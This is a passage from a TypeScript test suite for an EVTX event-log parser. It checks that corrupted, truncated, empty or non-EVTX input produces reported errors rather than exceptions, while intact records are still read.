    assert.deepEqual(
      ids(p).filter((i) => i !== 5),
      [1, 2, 3, 4, 6, 7, 8, 9],
    );
    if (!ids(p).includes(5)) {
      const e = p.errors.find((x) => x.recordId === 5 || x.offset === rec.offset);
      assert.ok(e, `failed record not reported with its id/offset: ${errs(p)}`);
      assert.equal(e.chunkIndex, 1);
      assert.equal(e.file, 'fixture.evtx');
    }
  });

  test('a record with an invalid template offset is reported, not fatal', () => {
    // Corrupt record 8's template definition offset so it points into the chunk header.
    const rec = good.chunks[2]!.records[1]!;
    const bytes = good.bytes.slice();
    const v = new DataView(bytes.buffer);
    // record header (24) + fragment header (4) + 0x0c, 0x01, template id (4) → definition offset field
    v.setUint32(rec.offset + 24 + 4 + 6, 0x10, true);
    const p = parse(bytes);
    assert.deepEqual(ids(p).filter((i) => i !== 8), [1, 2, 3, 4, 5, 6, 7, 9]);
    if (!ids(p).includes(8)) assert.ok(p.errors.some((e) => e.chunkIndex === 2), errs(p));
  });

  test('truncated file: complete chunks are read and the cut is reported', () => {
    const cut = FILE_HEADER_SIZE + 2 * CHUNK_SIZE + 700; // inside chunk 2's first record
    const p = parse(truncated(good.bytes, cut));
    for (const id of [1, 2, 3, 4, 5, 6]) assert.ok(ids(p).includes(id), `record ${id} lost: ${ids(p)}`);
    assert.ok(p.errors.length > 0, 'a truncated chunk is reported, not silently dropped');
  });

  test('truncated inside the file header, empty input, and non-EVTX input give an error item, not an exception', () => {
    for (const bytes of [truncated(good.bytes, 100), new Uint8Array(0), new TextEncoder().encode('not an event log\n'.repeat(300))]) {
      const p = parse(bytes);
      assert.equal(p.records.length, 0);
      assert.ok(p.errors.length > 0, `no error for ${bytes.length}-byte input`);
      assert.equal(p.errors[0]!.file, 'fixture.evtx');
    }
  });
});
